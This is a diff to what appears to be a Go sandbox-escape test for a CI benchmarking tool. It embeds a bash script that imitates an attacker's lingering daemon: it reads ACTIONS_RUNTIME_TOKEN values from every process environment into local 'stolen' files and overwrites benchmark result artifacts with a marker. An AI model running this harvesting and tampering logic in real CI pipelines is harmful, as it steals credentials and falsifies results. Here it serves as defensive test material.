@@ -27,16 +27,16 @@ func daemonMarker() string { return "speedmatrix-daemon-escape-" + strconv.Itoa(
 
 // daemonScript is daemon.sh of the daemon-escape head: what a pull request's engine would leave
 // behind to outlive its job, as issue 34's attacker did. Started detached (setsid) with the
-// marker and the phase (build or serve), it runs until killed and, every 50 ms: copies every
+// marker and the phase (build or serve), it runs until killed and, every 0.2 s: copies every
 // ACTIONS_RUNTIME_TOKEN it can read in any process's environment (the measure step's own,
 // actions/upload-artifact's, the report job's) into MARKER-PHASE-stolen in its working
 // directory (the build's checkout, writable in the sandbox, under the runner's cache) and in
-// /tmp (the host's when unconfined); and, for every RUNNER_TEMP it reads there, rewrites the
-// artifact directory's results.json and meta.json (speedmatrix-results, the example's
-// artifact-dir) with the marker. It creates its stolen files first thing, so that the test
-// can tell it ran.
+// /tmp (the host's when unconfined); and, for every RUNNER_TEMP it has read there (kept: the
+// measure step that holds it may have ended), rewrites the artifact directory's results.json
+// and meta.json (speedmatrix-results, the example's artifact-dir) with the marker. It
+// creates its stolen files first thing, so that the test can tell it ran.
 const daemonScript = `#!/bin/bash
-marker=$1 phase=$2
+marker=$1 phase=$2 seen=
 out="$PWD/$marker-$phase-stolen" tmpout="/tmp/$marker-$phase-stolen"
 : >> "$out"; : >> "$tmpout" 2>/dev/null
 while :; do
@@ -45,11 +45,14 @@ while :; do
     printf '%s\n' "$found" >> "$out"; printf '%s\n' "$found" >> "$tmpout" 2>/dev/null
   fi
   for d in $(grep -a -h -o 'RUNNER_TEMP=[^[:cntrl:]]*' /proc/[0-9]*/environ 2>/dev/null | sort -u | cut -d= -f2-); do
+    case " $seen " in *" $d "*) ;; *) seen="$seen $d";; esac
+  done
+  for d in $seen; do
     for f in results.json meta.json; do
       [ -f "$d/speedmatrix-results/$f" ] && printf '{"tampered": "%s"}\n' "$marker" > "$d/speedmatrix-results/$f" 2>/dev/null
     done
   done
-  sleep 0.05
+  sleep 0.2
 done
 `
 
